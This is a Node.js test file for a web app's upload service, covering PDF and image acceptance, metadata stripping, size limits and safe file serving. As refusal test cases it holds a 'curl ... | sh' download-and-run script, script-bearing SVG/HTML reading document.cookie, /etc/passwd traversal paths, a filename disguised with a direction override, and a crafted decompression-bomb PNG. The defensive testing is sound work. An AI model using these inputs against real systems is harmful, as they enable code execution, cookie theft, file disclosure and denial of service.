import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { crc32 } from 'node:zlib';
import { Hono } from 'hono';
import sharp from 'sharp';
import { createTestApp, type TestApp } from '../../../tests/helpers/app.ts';
import { moduleServices } from '../../modules.ts';
import { loadConfig } from '../../platform/config.ts';
import { createDeps } from '../../platform/deps.ts';
import type { AppEnv } from '../../platform/http/context.ts';
import { getI18n } from '../../platform/i18n/i18n.ts';
import { sniffFileType } from './file-types.model.ts';
import { contentDisposition, parseRange, uploadBodyLimit } from './uploads.routes.ts';
import {
  acceptUpload,
  imageSrcset,
  MAX_NAME_LENGTH,
  prepareUpload,
  recordUpload,
  sanitizeFileName,
  type UploadInput,
  uploadsDir,
  uploadUrl,
} from './uploads.service.ts';

const MB = 1024 * 1024;
let t: TestApp;
let dataDir: string;
let dir: string;

before(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'peerpolis-uploads-'));
  t = await createTestApp({ seed: 'none', env: { DATA_DIR: dataDir } });
  dir = uploadsDir({ DATA_DIR: dataDir });
});
after(async () => {
  await t.close();
  rmSync(dataDir, { recursive: true, force: true });
});

const en = getI18n('en');
const de = getI18n('de');
const file = (bytes: Uint8Array | string, name: string, type = '') =>
  new File([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], name, { type });
const accept = (input: UploadInput) => acceptUpload(t.database.db, dir, input);
const document = (f: unknown) => accept({ file: f, kind: 'document', uploaderUserId: null });
const image = (f: unknown) => accept({ file: f, kind: 'image', uploaderUserId: null });
const files = () => readdirSync(dir).sort();
const rows = (sha256: string) => t.database.db.selectFrom('uploads').selectAll().where('sha256', '=', sha256).execute();

function pdf(text: string): Buffer {
  return Buffer.from(`%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n% ${text}\ntrailer << /Root 1 0 R >>\n%%EOF\n`);
}

function failure(result: Awaited<ReturnType<typeof accept>>) {
  assert.equal(result.ok, false, 'expected a refusal');
  return result as Extract<typeof result, { ok: false }>;
}

function success(result: Awaited<ReturnType<typeof accept>>) {
  assert.ok(result.ok, `expected success, got ${JSON.stringify(result)}`);
  return result.upload;
}

describe('documents', () => {
  it('accepts a PDF and stores the same bytes once, with a row per upload', async () => {
    const bytes = pdf('annual report');
    const first = success(await document(file(bytes, 'Bürgerhaushalt Köln 2024.pdf', 'application/pdf')));
    const second = success(await document(file(bytes, 'copy.pdf', 'application/octet-stream')));
    const sha = createHash('sha256').update(bytes).digest('hex');
    assert.equal(first.sha256, sha);
    assert.equal(second.sha256, sha);
    assert.notEqual(first.id, second.id);
    assert.equal(first.mediaType, 'application/pdf');
    assert.equal(first.bytes, bytes.length);
    assert.equal(first.width, null);
    assert.equal(first.originalName, 'Bürgerhaushalt Köln 2024.pdf');
    assert.deepEqual(files(), [`${sha}.pdf`]); // one file, no temporary leftovers
    assert.deepEqual(readFileSync(join(dir, `${sha}.pdf`)), bytes);
    assert.equal((await rows(sha)).length, 2);
    assert.equal(uploadUrl(sha, 'document'), `/uploads/${sha}.pdf`);
  });

  it('refuses a 20 MB PDF with the size and the limit, in the reader’s language', async () => {
    const big = Buffer.alloc(20 * MB, 0x20);
    pdf('x').copy(big);
    const result = failure(await document(file(big, 'huge.pdf', 'application/pdf')));
    assert.equal(result.error, 'uploads.errors.tooLarge');
    assert.deepEqual(result.values, { sizeMb: 20, maxMb: 10 });
    assert.match(en.t(result.error, result.values), /^The file is 20 MB; the limit is 10 MB\./);
    assert.match(de.t(result.error, result.values), /^Die Datei ist 20 MB groß; erlaubt sind höchstens 10 MB\./);
    // Just over the limit never reads "10 MB; the limit is 10 MB".
    const justOver = failure(await document(file(Buffer.alloc(10 * MB + 1000), 'a.pdf')));
    assert.deepEqual(justOver.values, { sizeMb: 10.1, maxMb: 10 });
  });

  it('refuses programs, archives and other files named .pdf and declared application/pdf', async () => {
    const before = files();
    const impostors: Record<string, Buffer> = {
      'Windows program (MZ/PE)': Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(200), pdf('polyglot')]),
      'Linux program (ELF)': Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(100)]),
      'macOS program (Mach-O)': Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(100)]),
      'shell script': Buffer.from('#!/bin/sh\ncurl http://example.org/x | sh\n'),
      'zip or jar': Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100)]),
      'HTML page': Buffer.from('<html><script>alert(1)</script></html>'),
      'PDF header after junk': Buffer.concat([Buffer.from('junk\n'), pdf('late')]),
    };
    for (const [what, bytes] of Object.entries(impostors)) {
      const result = failure(await document(file(bytes, 'report.pdf', 'application/pdf')));
      assert.equal(result.error, 'uploads.errors.notPdf', what);
    }
    assert.match(en.t('uploads.errors.notPdf'), /^This file is not a PDF\./);
    assert.deepEqual(files(), before, 'nothing refused is written');
  });

  it('can check and store a file before the caller opens its transaction, and record it inside', async () => {
    const prepared = await prepareUpload(dir, { file: file(pdf('prepared'), 'plan.pdf'), kind: 'document' });
    assert.ok(prepared.ok);
    assert.ok(files().includes(`${prepared.file.sha256}.pdf`));
    assert.equal((await rows(prepared.file.sha256)).length, 0, 'not recorded yet');
    const recorded = await t.database.db.transaction().execute((trx) => recordUpload(trx, prepared.file, null));
    assert.equal(recorded.sha256, prepared.file.sha256);
    assert.equal((await rows(prepared.file.sha256))[0]?.id, recorded.id);
  });

  it('asks for a file when none was chosen', async () => {
    for (const empty of [file(new Uint8Array(0), ''), '', undefined]) {
      assert.equal(failure(await document(empty)).error, 'uploads.errors.noFile');
    }
    assert.equal(en.t('uploads.errors.noFile'), 'Please choose a file.');
  });

  it('keeps a display name without paths, control or direction-override characters, at most 200 characters', () => {
    assert.equal(sanitizeFileName('C:\\fakepath\\report.pdf', 'x'), 'report.pdf');
    assert.equal(sanitizeFileName('../../etc/passwd', 'x'), 'passwd');
    assert.equal(sanitizeFileName('invoice\u202Efdp.exe', 'x'), 'invoicefdp.exe');
    assert.equal(sanitizeFileName('a\u0000b\nc\td', 'x'), 'ab c d');
    assert.equal(sanitizeFileName('  ...hidden  ', 'x'), 'hidden');
    assert.equal(sanitizeFileName('/', 'fallback'), 'fallback');
    assert.equal(sanitizeFileName('تقرير المدينة.pdf', 'x'), 'تقرير المدينة.pdf');
    const long = sanitizeFileName(`${'ü'.repeat(300)}.pdf`, 'x');
    assert.equal([...long].length, MAX_NAME_LENGTH);
  });
});

async function photo(width: number, height: number, options: { orientation?: number; gps?: boolean } = {}) {
  let pipeline = sharp({ create: { width, height, channels: 3, background: { r: 40, g: 120, b: 200 } } }).jpeg();
  if (options.gps) {
    pipeline = pipeline.withExif({
      IFD0: { Copyright: 'Jane Roe', Make: 'PhoneCo' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 8/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '11/1 34/1 0/1' },
    });
  }
  if (options.orientation) pipeline = pipeline.withMetadata({ orientation: options.orientation });
  return pipeline.toBuffer();
}

describe('images', () => {
  it('re-encodes a large photo: at most 1600 px wide, metadata and GPS removed, a 640 px variant', async () => {
    const input = await photo(3000, 2000, { gps: true });
    assert.ok((await sharp(input).metadata()).exif, 'the test photo carries EXIF');
    const upload = success(await image(file(input, 'IMG_0001.JPG', 'image/jpeg')));
    assert.equal(upload.mediaType, 'image/jpeg');
    assert.equal(upload.width, 1600);
    assert.equal(upload.height, 1067);
    const stored = readFileSync(join(dir, `${upload.sha256}.jpg`));
    assert.equal(createHash('sha256').update(stored).digest('hex'), upload.sha256, 'named by the stored bytes');
    assert.equal(upload.bytes, stored.length);
    const meta = await sharp(stored).metadata();
    assert.equal(meta.format, 'jpeg');
    assert.equal(meta.width, 1600);
    assert.equal(meta.exif, undefined);
    assert.equal(meta.icc, undefined);
    assert.ok(!stored.includes('Jane Roe') && !stored.includes('PhoneCo'));
    const small = await sharp(readFileSync(join(dir, `${upload.sha256}-640.jpg`))).metadata();
    assert.equal(small.width, 640);
    assert.equal(small.exif, undefined);
    assert.equal(uploadUrl(upload.sha256, 'image', 'small'), `/uploads/${upload.sha256}-640.jpg`);
    assert.equal(imageSrcset(upload.sha256, 1600), `/uploads/${upload.sha256}-640.jpg 640w, /uploads/${upload.sha256}.jpg 1600w`);
  });

  it('turns a photo the right way up (EXIF orientation) and never enlarges a small one', async () => {
    const upload = success(await image(file(await photo(400, 300, { orientation: 6 }), 'sideways.jpg')));
    assert.equal(upload.width, 300);
    assert.equal(upload.height, 400);
    assert.equal(imageSrcset(upload.sha256, 300), `/uploads/${upload.sha256}.jpg 300w`);
  });

  it('accepts PNG (transparency on white) and WebP', async () => {
    const png = await sharp({ create: { width: 800, height: 600, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } })
      .png()
      .toBuffer();
    const fromPng = success(await image(file(png, 'logo.png', 'image/png')));
    assert.equal(fromPng.width, 800);
    const { dominant } = await sharp(readFileSync(join(dir, `${fromPng.sha256}.jpg`))).stats();
    assert.ok(dominant.r > 240 && dominant.g > 240 && dominant.b > 240, 'transparent pixels become white');
    assert.equal((await sharp(readFileSync(join(dir, `${fromPng.sha256}-640.jpg`))).metadata()).width, 640);
    const webp = await sharp({ create: { width: 100, height: 80, channels: 3, background: '#884400' } })
      .webp()
      .toBuffer();
    assert.equal(success(await image(file(webp, 'x.webp'))).height, 80);
  });

  it('refuses SVG, named .svg or renamed .png, saying why and what works instead', async () => {
    const svg = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>';
    for (const [name, type] of [
      ['drawing.svg', 'image/svg+xml'],
      ['drawing.png', 'image/png'],
    ] as const) {
      assert.equal(failure(await image(file(svg, name, type))).error, 'uploads.errors.svg', name);
    }
    const message = en.t('uploads.errors.svg');
    assert.match(message, /SVG/);
    assert.match(message, /scripts/);
    assert.match(message, /JPEG, PNG or WebP/);
    assert.equal(failure(await document(file(svg, 'drawing.pdf', 'application/pdf'))).error, 'uploads.errors.notPdf');
  });

  it('refuses what is not a JPEG, PNG or WebP image, whatever its name', async () => {
    const cases: [Uint8Array | string, string, string][] = [
      ['just some text', 'photo.jpg', 'uploads.errors.notImage'],
      [Buffer.from('MZ\x90\x00program', 'latin1'), 'photo.jpg', 'uploads.errors.notImage'],
      [pdf('doc'), 'photo.jpg', 'uploads.errors.notImage'],
      [Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'), 'anim.gif', 'uploads.errors.notImage'],
      [Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic')]), 'IMG_1234.HEIC', 'uploads.errors.heic'],
      [Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(500, 0x41)]), 'broken.jpg', 'uploads.errors.imageUnreadable'],
    ];
    for (const [bytes, name, error] of cases) {
      assert.equal(failure(await image(file(bytes, name, 'image/jpeg'))).error, error, name);
    }
  });

  it('refuses a decompression bomb from its header, before decoding it', async () => {
    const result = failure(await image(file(pngHeader(20_000, 20_000), 'bomb.png', 'image/png')));
    assert.equal(result.error, 'uploads.errors.tooManyPixels');
    assert.deepEqual(result.values, { megapixels: 400, maxMegapixels: 50 });
    assert.match(en.t(result.error, result.values), /400 megapixels; the limit is 50/);
  });
});

/** A PNG that claims width × height but holds one empty row of data: tiny on disk, huge once decoded. */
function pngHeader(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', Buffer.from([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('the upload size limit on requests', () => {
  function multipart(size: number) {
    const boundary = '----peerpolis-test-boundary';
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="_csrf"\r\n\r\ntoken\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\nContent-Type: application/pdf\r\n\r\n`,
    );
    const data = Buffer.alloc(size, 0x20);
    pdf('x').copy(data);
    const body = Buffer.concat([head, data, Buffer.from(`\r\n--${boundary}--\r\n`)]);
    return { body, type: `multipart/form-data; boundary=${boundary}` };
  }

  /** A tiny app like the practice editor's: the limit, then a handler that parses the form and stores the file. */
  function tinyApp(options: Parameters<typeof uploadBodyLimit>[0] = {}, before?: (c: any) => Promise<void>) {
    const deps = createDeps(loadConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent', DATA_DIR: dataDir }), t.database, { persistSecret: false });
    const app = new Hono<AppEnv>();
    app.use(async (c, next) => {
      c.set('deps', { ...deps, modules: moduleServices });
      c.set('user', null);
      c.set('csrfToken', '');
      c.set('i18n', getI18n('en'));
      if (before) await before(c);
      await next();
    });
    app.post('/:locale/upload', uploadBodyLimit(options), async (c) => {
      const body = await c.req.parseBody();
      const result = await acceptUpload(deps.db, dir, { file: body.file, kind: 'document', uploaderUserId: null });
      return result.ok ? c.text(result.upload.sha256) : c.text(getI18n('de').t(result.error, result.values), 422);
    });
    return app;
  }

  it('answers a 20 MB form with a localized 413 page naming the size and the limit, and a link back', async () => {
    const { body, type } = multipart(20 * MB);
    const res = await tinyApp().request('/de/upload', {
      method: 'POST',
      body,
      headers: { 'content-type': type, 'content-length': String(body.length), referer: 'http://localhost/de/practices/7/edit?step=2' },
    });
    assert.equal(res.status, 413);
    assert.match(res.headers.get('content-type') ?? '', /text\/html/);
    assert.equal(res.headers.get('cache-control'), 'no-store');
    const html = await res.text();
    assert.match(html, /<html lang="de"/);
    assert.match(html, /<h1>Die Datei ist zu groß<\/h1>/);
    assert.match(html, /Die Datei ist 20 MB groß; erlaubt sind höchstens 10 MB\./);
    assert.match(html, /<a href="\/de\/practices\/7\/edit\?step=2">Zurück zum Formular<\/a>/);
  });

  it('counts a body sent without Content-Length and stops at the limit', async () => {
    const { body, type } = multipart(13 * MB);
    const res = await tinyApp().request('/fr/upload', {
      method: 'POST',
      body,
      headers: { 'content-type': type, referer: 'https://elsewhere.example/phish' },
    });
    assert.equal(res.status, 413);
    const html = await res.text();
    assert.match(html, /Le fichier dépasse la limite de 10 Mo\./);
    assert.match(html, /<a href="\/fr\/">Retour au formulaire<\/a>/, 'no link back to another site');
  });

  it('lets the caller render its own form with the message', async () => {
    const { body, type } = multipart(20 * MB);
    const app = tinyApp({ onTooLarge: (c, error) => c.text(`form again: ${getI18n('en').t(error.error, error.values)}`, 413) });
    const res = await app.request('/en/upload', {
      method: 'POST',
      body,
      headers: { 'content-type': type, 'content-length': String(body.length) },
    });
    assert.equal(res.status, 413);
    assert.match(await res.text(), /^form again: The file is 20 MB; the limit is 10 MB\./);
  });

  it('lets a form under the limit through, and leaves the 10 MB rule to the service', async () => {
    const ok = multipart(1000);
    const accepted = await tinyApp().request('/en/upload', {
      method: 'POST',
      body: ok.body,
      headers: { 'content-type': ok.type, 'content-length': String(ok.body.length) },
    });
    assert.equal(accepted.status, 200);
    assert.match(await accepted.text(), /^[0-9a-f]{64}$/);
    const eleven = multipart(11 * MB);
    const refused = await tinyApp().request('/en/upload', {
      method: 'POST',
      body: eleven.body,
      headers: { 'content-type': eleven.type, 'content-length': String(eleven.body.length) },
    });
    assert.equal(refused.status, 422);
    assert.equal(await refused.text(), 'Die Datei ist 11 MB groß; erlaubt sind höchstens 10 MB. Bitte wählen Sie eine kleinere Datei.');
  });

  it('does not fail when an earlier middleware (the CSRF check) already read a body of unknown length', async () => {
    const { body, type } = multipart(2000);
    const app = tinyApp({}, async (c) => {
      await c.req.parseBody();
    });
    const res = await app.request('/en/upload', { method: 'POST', body, headers: { 'content-type': type } });
    assert.equal(res.status, 200);
  });
});

describe('GET /uploads/:name', () => {
  let pdfSha: string;
  let imageSha: string;
  before(async () => {
    pdfSha = success(await document(file(pdf('served'), '«Plan» für Köln; "final".pdf', 'application/pdf'))).sha256;
    imageSha = success(await image(file(await photo(1000, 500), 'street.jpg'))).sha256;
  });

  function assertFileHeaders(res: Response) {
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(res.headers.get('content-security-policy'), "default-src 'none'; sandbox");
    assert.equal(res.headers.get('cache-control'), 'public, max-age=31536000, immutable');
  }

  it('serves a PDF inline under its uploaded name, with the security headers and its hash as ETag', async () => {
    const res = await t.request(`/uploads/${pdfSha}.pdf`);
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'application/pdf');
    assertFileHeaders(res);
    assert.equal(res.headers.get('etag'), `"${pdfSha}"`);
    assert.equal(
      res.headers.get('content-disposition'),
      `inline; filename="_Plan_ f_r K_ln; _final_.pdf"; filename*=UTF-8''%C2%ABPlan%C2%BB%20f%C3%BCr%20K%C3%B6ln%3B%20%22final%22.pdf`,
    );
    assert.deepEqual(Buffer.from(await res.arrayBuffer()), pdf('served'));
    const again = await t.request(`/uploads/${pdfSha}.pdf`, { headers: { 'if-none-match': `"${pdfSha}"` } });
    assert.equal(again.status, 304);
  });

  it('serves both image sizes inline as JPEG', async () => {
    for (const [name, width] of [
      [`${imageSha}.jpg`, 1000],
      [`${imageSha}-640.jpg`, 640],
    ] as const) {
      const res = await t.request(`/uploads/${name}`);
      assert.equal(res.status, 200, name);
      assert.equal(res.headers.get('content-type'), 'image/jpeg');
      assert.equal(res.headers.get('content-disposition'), 'inline');
      assertFileHeaders(res);
      assert.equal((await sharp(Buffer.from(await res.arrayBuffer())).metadata()).width, width);
    }
    const head = await t.request(`/uploads/${imageSha}.jpg`, { method: 'HEAD' });
    assert.equal(head.status, 200);
    assert.ok(Number(head.headers.get('content-length')) > 0);
  });

  it('answers byte ranges, so an interrupted download can resume', async () => {
    const whole = pdf('served');
    const res = await t.request(`/uploads/${pdfSha}.pdf`, { headers: { range: 'bytes=5-9' } });
    assert.equal(res.status, 206);
    assert.equal(res.headers.get('content-range'), `bytes 5-9/${whole.length}`);
    assert.equal(await res.text(), whole.subarray(5, 10).toString());
    const past = await t.request(`/uploads/${pdfSha}.pdf`, { headers: { range: `bytes=${whole.length}-` } });
    assert.equal(past.status, 416);
    assert.deepEqual(parseRange('bytes=-10', 100), { start: 90, end: 99 });
    assert.deepEqual(parseRange('bytes=90-500', 100), { start: 90, end: 99 });
    assert.equal(parseRange('bytes=0-1,5-6', 100), null);
    assert.equal(parseRange('bytes=9-3', 100), null);
  });

  it('answers 404 for anything but a stored name: traversal, unknown hashes, other suffixes, temporary files', async () => {
    const unknown = 'a'.repeat(64);
    const paths = [
      '/uploads/../etc/passwd',
      '/uploads/..%2F..%2Fetc%2Fpasswd',
      '/uploads/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '/uploads/..%5c..%5cetc%5cpasswd',
      `/uploads/${pdfSha}.pdf%00.jpg`,
      `/uploads/${pdfSha}.PDF`,
      `/uploads/${pdfSha.toUpperCase()}.pdf`,
      `/uploads/${pdfSha}.jpg`,
      `/uploads/${pdfSha}-640.pdf`,
      `/uploads/${imageSha}.pdf`,
      `/uploads/${imageSha}.png`,
      `/uploads/${unknown}.pdf`,
      `/uploads/${pdfSha}`,
      '/uploads/',
      '/uploads/.tmp-1-abc',
      `/uploads/x/${pdfSha}.pdf`,
    ];
    for (const path of paths) {
      const res = await t.request(path);
      // A NUL byte is refused before routing (400, see request-guard.ts); everything else is not found.
      assert.equal(res.status, path.includes('%00') ? 400 : 404, path);
      assert.doesNotMatch(await res.text(), /root:|%PDF/, path);
    }
  });

  it('never serves a file whose record was rolled back with the caller’s transaction', async () => {
    let sha = '';
    await assert.rejects(
      t.database.db.transaction().execute(async (trx) => {
        const result = await acceptUpload(trx, dir, {
          file: file(pdf('rolled back'), 'draft.pdf'),
          kind: 'document',
          uploaderUserId: null,
        });
        assert.ok(result.ok);
        sha = result.upload.sha256;
        throw new Error('the practice could not be saved');
      }),
      /could not be saved/,
    );
    assert.equal((await rows(sha)).length, 0);
    assert.equal((await t.request(`/uploads/${sha}.pdf`)).status, 404);
  });
});

describe('helpers', () => {
  it('sniffs types from content only', () => {
    assert.equal(sniffFileType(pdf('x')), 'pdf');
    assert.equal(sniffFileType(Buffer.from('\uFEFF  <!-- hi --><svg/>')), 'svg');
    assert.equal(sniffFileType(Buffer.from('RIFF\0\0\0\0WEBPVP8 ', 'latin1')), 'webp');
    assert.equal(sniffFileType(Buffer.from('RIFF\0\0\0\0AVI ', 'latin1')), 'other');
    assert.equal(sniffFileType(new Uint8Array(0)), 'other');
  });

  it('encodes Content-Disposition for every client (RFC 6266 / 8187)', () => {
    assert.equal(contentDisposition('inline', 'plan.pdf'), `inline; filename="plan.pdf"; filename*=UTF-8''plan.pdf`);
    assert.equal(
      contentDisposition('attachment', "خطة (2024)'s 100%.pdf"),
      `attachment; filename="___ (2024)'s 100_.pdf"; filename*=UTF-8''%D8%AE%D8%B7%D8%A9%20%282024%29%27s%20100%25.pdf`,
    );
  });
});
